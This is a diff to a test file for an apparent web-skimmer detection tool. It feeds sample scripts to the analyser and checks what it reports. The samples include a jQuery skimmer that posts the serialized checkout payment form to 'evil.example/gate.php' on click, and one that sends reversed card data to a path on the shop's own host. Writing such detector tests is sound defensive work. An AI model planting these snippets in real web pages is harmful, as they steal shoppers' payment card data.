@@ -1,3 +1,4 @@
+import { deep } from '@tillwatch/testbed/depth'
 import { expect, it } from 'vitest'
 import { all, run, shareBrowser, withCard } from './run.ts'
 
@@ -99,7 +100,7 @@ it('tells nothing of a script that only formats the card and counts visits, but 
   expect(new Set(told.behaviours.map(({ kind }) => kind))).toEqual(new Set(['reads-field', 'listens', 'contacts']))
 })
 
-it('offers the libraries that shops have to a script that counts on them', async () => {
+it.runIf(deep)('offers the libraries that shops have to a script that counts on them', async () => {
   const told = await run(`jQuery(function ($) { $(document).on('click', '.btn-checkout', function () {
     $.ajax({ url: '//evil.example/gate.php', type: 'POST', data: $('#co-payment-form').serialize() }) }) })`)
   expect(all(told, 'sends')).toContainEqual({ kind: 'sends', what: 'card', to: 'evil.example', way: 'xhr', encoding: 'plain', gate: null })
@@ -108,5 +109,4 @@ it('offers the libraries that shops have to a script that counts on them', async
 it('calls a host that is the shop itself “own”, and leaves out what the shop sends of its own accord', async () => {
   const told = await run(withCard("fetch('/media/catalog/1.jpg', { method: 'POST', body: [...card].reverse().join('') })"))
   expect(all(told, 'sends')).toEqual([{ kind: 'sends', what: 'card', to: 'own', way: 'fetch', encoding: 'reversed', gate: null }])
-  expect(all(await run("window.nothing = 'at all'"), 'sends')).toEqual([])
 })
